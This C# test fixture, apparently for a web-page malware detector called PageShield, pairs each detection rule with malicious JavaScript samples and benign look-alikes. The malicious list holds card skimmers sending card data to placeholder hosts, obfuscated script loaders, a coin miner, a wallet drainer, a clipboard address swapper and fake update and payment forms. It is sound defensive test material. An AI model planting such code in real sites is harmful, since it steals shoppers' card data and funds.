namespace PageShield.Tests.Detection;

/// <summary>For each rule: behaviour of our own writing that it must condemn, and the honest code that looks most like it.</summary>
internal static class RuleFixtures
{
    public static readonly IReadOnlyList<(string Rule, string Source)> Malicious =
    [
        ("names-itself", """
            (function () {
                var s = document.createElement('script');
                s.src = 'https://cdn-assets.example/js/skimmer.min.js';
                document.head.appendChild(s);
            })();
            """),
        ("names-itself", """
            var exfilUrl = location.origin + '/c2/collect', stolenData = {};
            ['cc_number', 'cc_cvc'].forEach(function (id) {
                document.getElementById(id).addEventListener('input', function (e) { stolenData[id] = e.target.value; fetch(exfilUrl, { method: 'POST', body: JSON.stringify(stolenData) }); });
            });
            """),
        // A collector that says so in what it shows, minified around it.
        ("names-itself", """
            !function(){const p=document.createElement("div");p.id="keylogger-box";const s={cc_number:"",cc_exp:"",cc_cvc:""};
            function show(){p.innerHTML=`
                <div style="font-weight: bold; color: #f66; border-bottom: 1px solid #333; padding-bottom: 8px; margin-bottom: 10px; text-transform: uppercase; letter-spacing: 1px;">CAPTURED DATA:</div>
                <div style="font-size: 11px; line-height: 1.3; color: #fff; background: rgba(255, 255, 255, 0.05); padding: 6px; border-left: 3px solid #0f0; border-radius: 4px;">Card: ${s.cc_number||"none"} ${s.cc_exp} ${s.cc_cvc}</div>`}
            ["cc_number","cc_exp","cc_cvc"].forEach(n=>{document.querySelector(`[name=${n}]`).addEventListener("input",e=>{s[n]=e.target.value;show()})});document.body.appendChild(p)}();
            """),
        // A list that is decoded in place, element by element, and says which browsers are wanted.
        ("hidden-script-loader", """
            (function () {
                function t(s) { return s.replace(/[a-z]/gi, function (c) { return String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13)); }); }
                var w = ['tzv-aqp//:fcggu', '/g/rycznkr.', 'trcw.qnby', 'gcvepf', 'kbsrevS', '1=gv-arrf', 'GA fjbqavJ'];
                for (var z = 0; z < w.length; z++) { var s = t(w[z] + ''); w[z] = s.split('').reverse().join(''); }
                var agent = navigator.userAgent;
                if (new RegExp(w[4]).test(agent) && new RegExp(w[6]).test(agent) && document.cookie.indexOf(w[5]) < 0) {
                    var e = document.createElement(w[3]);
                    e.src = w[0] + w[1] + w[2];
                    document.documentElement.appendChild(e);
                    document.cookie = w[5];
                }
            })();
            """),
        // A loop that decodes and steals: it is not over with what it decodes.
        ("card-fields-sent", """
            (function () {
                function t(s) { return s.split('').reverse().join(''); }
                var w = ['/elpmaxe.pord//:sptth', 'rebmun-cc#', 'tcelloc'];
                for (var z = 0; z < w.length; z++) {
                    w[z] = t(w[z]);
                    try { window.navigator.sendBeacon(w[0] + 'in', window.document.querySelector('#cc-number').value); } catch (e) { }
                }
            })();
            """),
        // One obfuscation over another: the second list is made of what the first gives, and is turned under names that the first hides.
        ("card-fields-sent", """
            function outer(i) { i = i - 0x20; var l = list(); return l[i]; }
            function list() { var a = ['cc-num', 'ber', 'https://drop', '.example/i', 'getElem', 'entById', 'POST', 'open', 'send', 'value', 'push', 'shift', 'XX', 'submit', 'addEvent', 'Listener']; list = function () { return a; }; return list(); }
            var words = [outer(0x28), outer(0x29), outer(0x2d), outer(0x2e)+outer(0x2f), outer(0x20)+outer(0x21), outer(0x22)+outer(0x23), outer(0x24)+outer(0x25), outer(0x26), outer(0x27)];
            (function (l, n) { var turn = function (m) { while (--m) { l[outer(0x2a)](l[outer(0x2b)]()); } }; turn(++n); }(words, 0x4));
            var look = function (i, k) { i = i - 0x0; var w = words[i]; return w; };
            var run = { a: function (f, x) { return f(x); }, b: function (x, y) { return x + y; } };
            document[run.a(look, '0x8')](look('0x7'), function () {
                var order = '1|2|0'.split('|'), step = 0;
                while (true) {
                    switch (order[step++]) {
                        case '0': x.send(); continue;
                        case '1': var x = new XMLHttpRequest(), number = document[run.a(look, '0x2')](run.a(look, '0x0')); continue;
                        case '2': x[run.a(look, '0x4')](look('0x3'), run.b(run.a(look, '0x1'), '?n=' + number[look('0x6')])); continue;
                    }
                    break;
                }
            });
            """),
        // A page with a tag that is not its own, from a host that sounds like a library.
        ("lookalike-loader", """
            <!DOCTYPE html><html><head><script src="https://shop.example/js/prototype.js"></script>
            <script src="https://jquery-css.top/lib/main.js"></script></head><body><script>document.title = 'Shop';</script></body></html>
            """),
        ("coin-miner", """
            var job = null, total = 0, pool = new WebSocket('wss://pool-gate.example/in'), hasher = new Worker('cryptonight-worker.js');
            pool.onmessage = function (m) { job = JSON.parse(m.data); hasher.postMessage({ blob: job.blob, target: job.target, job_id: job.job_id }); };
            hasher.onmessage = function (e) { total += e.data.hashes; pool.send(JSON.stringify({ type: 'submit', params: { job_id: job.job_id, nonce: e.data.nonce, result: e.data.result } })); };
            """),
        ("wallet-drainer", """
            document.querySelector('#claim').onclick = async function () {
                var accounts = await ethereum.request({ method: 'eth_requestAccounts' });
                var thief = '0x1111111111111111111111111111111111111abc', most = '0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
                await contract.setApprovalForAll(thief, true); await token.increaseAllowance(thief, most);
                await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: accounts[0], to: thief, value: most }] });
                fetch('https://api.telegram.org/bot1:x/sendMessage?text=' + accounts[0]);
            };
            document.title = 'Airdrop: connect wallet to claim reward';
            """),
        ("hidden-redirect", """
            if (/google|bing/.test(document.referrer) && document.cookie.indexOf('_v=') < 0) {
                document.cookie = '_v=1';
                location.href = atob('aHR0cHM6Ly9wcml6ZS1nYXRlLmV4YW1wbGUvd2lu');
            }
            """),
        ("hidden-script-loader", """
            if (/checkout|onepage/.test(location.href)) {
                var s = document.createElement('script');
                s.src = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 45, 99, 100, 110, 46, 101, 120, 97, 109, 112, 108, 101, 47, 120, 46, 106, 115);
                document.head.appendChild(s);
            }
            """),
        ("fake-update", """
            if (navigator.userAgent.indexOf('Chrome') > 0)
                document.body.innerHTML = '<h1>Your Chrome browser is out of date</h1><p>Update Chrome to go on.</p><a href="https://files.example/Chrome_Update.exe" download>Update</a>';
            """),
        ("fake-card-form", """
            if (/checkout/.test(location.pathname)) {
                document.querySelector('#payment').innerHTML = '<label>Card number</label><input name="cc_number" id="cc_number"><input name="cc_cvv" id="cc_cvv">';
                document.addEventListener('change', function () {
                    navigator.sendBeacon('https://secure-pay.example/v', JSON.stringify({ n: document.getElementById('cc_number').value, c: document.getElementById('cc_cvv').value }));
                });
            }
            """),
        ("clipboard-swap", """
            document.addEventListener('copy', function (e) {
                if (!/^0x[0-9a-f]{40}$/i.test(String(getSelection()))) return;
                e.clipboardData.setData('text/plain', '0x2222222222222222222222222222222222222def'); e.preventDefault();
            });
            var note = 'press Enter to verify you are human';
            """),
        ("browser-exploit", """
            var found = false;
            ['Kaspersky.IeVirtualKeyboardPlugin.JavascriptApi', 'VBoxGuest', 'vmmouse'].forEach(function (n) { try { new ActiveXObject(n); found = true; } catch (e) { } });
            if (!found) { var o = document.createElement('img'); o.src = 'res://C:\\Program Files\\Fiddler2\\Fiddler.exe/#3/#1'; }
            """),
        // The host stands after the page's own scheme.
        ("card-fields-sent", "document.querySelector('#pay').onclick = function () { new Image().src = location.protocol + '//stats-collect.example/p.gif?c=' + document.querySelector('#cc-number').value + '&v=' + document.querySelector('#cvv').value; };"),
        // The product's name is spelt in a code of the script's own.
        ("browser-exploit", """
            function w(s) { var t = ''; for (var i = 0; i < s.length; i += 2) t += String.fromCharCode(parseInt(s.substr(i, 2), 16)); return t; }
            try { new ActiveXObject(w('4b6173706572736b792e49655669727475616c4b6579626f617264506c7567696e')); } catch (e) { document.write('<script type="text/vbscript">Run()<\/script>'); }
            """),
        ("hidden-address", "var u = '&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;&#98;&#97;&#100;&#46;&#101;&#120;&#97;&#109;&#112;&#108;&#101;&#47;&#97;&#46;&#106;&#115;'; $('<script>').attr('src', $('<i>').html(u).text()).appendTo('head');"),
        ("form-retargeted", "if (/checkout/.test(location.href)) { document.querySelector('#login form').action = 'https://203.0.113.9/collect'; document.addEventListener('submit', function () { }); }"),
    ];

    public static readonly IReadOnlyList<(string Rule, string Source)> Honest =
    [
        // A grid's export: a form of the script's own, filled by the script, to the vendor's server.
        ("form-retargeted", """
            function save(rows) {
                var form = document.createElement('form'), field = document.createElement('input');
                form.action = 'http://grid-vendor.example/export_server/dataexport.php'; form.method = 'post';
                field.name = 'content'; field.value = rows.join('\n');
                form.appendChild(field); document.body.appendChild(form); form.submit();
            }
            document.querySelector('#export').addEventListener('click', function () { save(['a;b', 'c;d']); });
            """),
        // API documentation that offers a command to copy, by its name.
        ("clipboard-command", """
            var generators = { curl_powershell: { title: 'cURL (PowerShell)' }, curl_cmd: { title: 'cURL (CMD)' } };
            document.querySelector('.copy').onclick = function () { document.querySelector('#request').select(); document.execCommand('copy'); };
            var help = 'Paste it into a terminal and press Enter.';
            """),
        // "eset" in "reset", beside the old way to a request.
        ("browser-exploit", "var x = window.XMLHttpRequest ? new XMLHttpRequest() : new ActiveXObject('Microsoft.XMLHTTP'); var events = ['reset', 'preset', 'charset'];"),
        // A chart that captures a pointer's data and knows colours that begin with cc.
        ("names-itself", """
            var capturedData = [], colours = ['#CC3311', '#CC79A7'], icons = ['.chart-pan-icon', '.chart-cc-icon'];
            document.addEventListener('change', function (e) { capturedData.push(e.target.id); fetch('/chart?n=' + capturedData.length); });
            var key = 'capturedData';
            """),
        // A captcha that makes the browser work for a moment.
        ("coin-miner", "var w = new Worker('pow.js'); w.postMessage({ salt: salt, difficulty: 4 }); w.onmessage = function (e) { form.elements['pow-nonce'].value = e.data.nonce; };"),
        // A wallet library takes recipients and amounts from its caller.
        ("wallet-drainer", "export async function send(to, value) { var from = (await ethereum.request({ method: 'eth_requestAccounts' }))[0]; return ethereum.request({ method: 'eth_sendTransaction', params: [{ from: from, to: to, value: value }] }); }"),
        // A shop sends visitors to their own country's site.
        ("hidden-redirect", "var lang = navigator.language; if (lang.indexOf('de') === 0 && document.cookie.indexOf('stay=') < 0) location.href = 'https://de.shop.example/';"),
        // A form builder asks a language model.
        ("fields-sent", """
            document.querySelector('#ask').addEventListener('click', function () {
                var form = new FormData(document.querySelector('form')), x = new XMLHttpRequest();
                x.open('POST', 'https://api.openai.com/v1/chat/completions');
                x.send(JSON.stringify(Object.fromEntries(form)));
            });
            """),
        // A page with libraries from where they come from.
        ("lookalike-loader", """
            <!DOCTYPE html><html><head><script src="https://code.jquery.com/jquery-3.7.1.min.js"></script><script src="//cdn.jsdelivr.net/npm/vue"></script>
            <script src="https://static.shop.example/app.js"></script></head><body><script>document.title = 'Shop';</script></body></html>
            """),
        // A list that is tidied in place.
        ("hidden-script-loader", """
            var names = [' red', 'green ', 'blue']; for (var i = 0; i < names.length; i++) { names[i] = names[i].split('').join('').trim(); }
            var s = document.createElement('script'); s.src = '/js/' + names[0] + '.js'; document.head.appendChild(s);
            """),
        // An analytics vendor's snippet, loaded everywhere.
        ("hidden-script-loader", "(function (d) { var s = d.createElement('script'); s.src = 'https://cdn.stats.example/s.js'; s.async = 1; d.head.appendChild(s); })(document);"),
        // A site asks for a newer browser and links to the makers.
        ("fake-update", "if (!window.fetch) document.body.insertAdjacentHTML('afterbegin', '<p>This browser is not supported. See <a href=\"https://browsehappy.com\">which ones are</a>.</p>');"),
        // A payment form of the shop's own, sent to the shop.
        ("fake-card-form", "document.querySelector('#pay').innerHTML = '<input name=\"cc_number\"><input name=\"cc_cvv\">'; document.querySelector('form').addEventListener('submit', function () { fetch('/api/pay', { method: 'POST', body: new FormData(this) }); });"),
        // A donation page copies its own address when asked to.
        ("clipboard-swap", "document.querySelector('#donate').onclick = function () { navigator.clipboard.writeText('0x2222222222222222222222222222222222222def'); };"),
        ("clipboard-command", "document.querySelectorAll('pre button').forEach(function (b) { b.onclick = function () { navigator.clipboard.writeText(b.previousSibling.textContent); }; });"),
        // Old browsers make their requests through ActiveX.
        ("browser-exploit",
            "function request() { try { return new XMLHttpRequest(); } catch (e) { return new ActiveXObject('Microsoft.XMLHTTP'); } }"),
        // An address for mail in character references, against collectors.
        ("hidden-address", "document.querySelector('#mail').innerHTML = '&#109;&#97;&#105;&#108;&#64;&#101;&#120;&#97;&#109;&#112;&#108;&#101;&#46;&#111;&#114;&#103;&#109;&#97;&#105;&#108;';"),
        // A payment library names the answers that banks give.
        ("names-itself", "var reasons = { stolen_card: 'The card was reported stolen.', lost_or_stolen: 'Use another card.' }; fetch('/pay').then(function (r) { return reasons[r.status]; });"),
        ("form-retargeted", "document.querySelector('form').action = '/search';"),
        ("hidden-frame", "var f = document.createElement('iframe'); f.width = 560; f.height = 315; f.src = 'https://www.youtube.com/embed/x'; document.querySelector('#video').appendChild(f);"),
        ("code-from-server",
            "fetch('/api/items').then(function (r) { return r.json(); }).then(function (items) { list.textContent = items.length; });"),
    ];
}
